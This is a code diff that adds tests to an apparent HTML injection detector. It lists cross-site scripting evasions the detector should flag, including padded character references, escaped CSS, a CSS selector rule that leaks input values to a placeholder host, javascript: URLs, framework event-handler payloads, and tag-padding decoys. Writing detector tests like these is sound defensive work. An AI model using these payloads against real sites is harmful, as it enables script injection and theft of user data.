@@ -182,3 +182,29 @@ test("JSX handlers with a lone name are code, with a program they are an attack"
   assert.ok(!kindsOf(html, "<i onChange={(e) => set(e)} />").includes("html.event_attribute"));
   reports("html.event_attribute", ["<b onclick={save}>", "<b onFocus={onerror=eval}throw/0/>"]);
 });
+
+test("references with zeros, escaped style, ends of names and lost beginnings are evasions", () => {
+  reports("html.padded", ["&#0000060", "a&#x00003c;b", "&#0000106;avascript"]);
+  reports("html.style", [
+    '<p style="\\63 \\6f lor:red">',
+    "<style>input[value^=a]{background:url(//x.example/a)}</style>",
+  ]);
+  reports("html.event_end", ["gt; src onerror", '" onfocus ']);
+  reports("html.script_value", ["#x41vascript:alert(1)", "javascript:a=b"]);
+  reports("html.entity", ["x!ENTITY % bar SYSTEM"]);
+  reports("html.script", [
+    "'}}</script>'",
+    '<handler id="y">go(1)</handler>',
+    "<script type=module>import 'x'</script>",
+  ]);
+  reports("html.event_attribute", [
+    `<x @click="_withCtx.constructor('go()')()">`,
+    `<div x-init="alert(1)">`,
+    "<b onFocus={location.assign(name)}>",
+  ]);
+});
+
+test("decoys do not use up what is read of tags", () => {
+  for (const decoy of ["<a ", "<a b='", "x<", "<a/b=", '<a "'])
+    reports("html.event_attribute", [`${decoy.repeat(1500)}><img src=x onerror=go()>`]);
+});
